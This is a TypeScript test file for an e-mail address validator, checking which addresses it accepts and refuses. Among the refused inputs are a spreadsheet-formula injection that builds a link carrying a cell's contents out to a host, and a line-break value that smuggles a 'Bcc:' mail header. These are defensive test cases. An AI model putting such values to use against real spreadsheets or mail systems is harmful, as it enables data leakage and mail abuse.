import { EMAIL_MAX_LENGTH, isEmailAddress, normaliseEmailAddress } from './email';

describe('the one e-mail rule', () => {
  it.each([
    'grace@example.org',
    'Grace.Uwimana+art@mail.example.co.rw',
    "o'neil@example.com",
    'a_b-c@sub-domain.example.travel',
    'info@xn--bcher-kva.example',
    'x@example.xn--p1ai',
  ])('accepts %s', (address) => {
    expect(isEmailAddress(address)).toBe(true);
  });

  it.each([
    ['a spreadsheet formula', '=HYPERLINK("https://x/?"&A2,"y")&"@a.b"'],
    ['a one-letter top-level domain (the old client accepted it, the server refused it)', 'a@b.c'],
    ['no domain dot', 'grace@localhost'],
    ['spaces', 'grace uwimana@example.org'],
    ['two @', 'grace@@example.org'],
    ['no local part', '@example.org'],
    ['a leading dot', '.grace@example.org'],
    ['doubled dots', 'grace..u@example.org'],
    ['a trailing dot in the local part', 'grace.@example.org'],
    ['a label starting with a hyphen', 'grace@-example.org'],
    ['an empty label', 'grace@example..org'],
    ['a numeric top-level domain', 'grace@example.123'],
    ['non-ASCII', 'grâce@example.org'],
    ['a NUL', 'grace\u0000@example.org'],
    ['a line break (header injection)', 'grace@example.org\r\nBcc: x@example.org'],
    ['a comma list', 'a@example.org,b@example.org'],
    ['a local part over 64 characters', `${'a'.repeat(65)}@example.org`],
    ['over the length limit', `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.org`],
  ])('refuses %s', (_, address) => {
    expect(isEmailAddress(address)).toBe(false);
  });

  it('refuses what is not a string', () => {
    for (const value of [undefined, null, 42, {}, ['a@example.org']]) expect(isEmailAddress(value)).toBe(false);
  });

  it('takes an address of exactly the maximum length', () => {
    const address = `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(57)}.org`;
    expect(address).toHaveLength(EMAIL_MAX_LENGTH);
    expect(isEmailAddress(address)).toBe(true);
  });

  it('normalises case and surrounding spaces', () => {
    expect(normaliseEmailAddress('  Grace@Example.ORG ')).toBe('grace@example.org');
  });
});
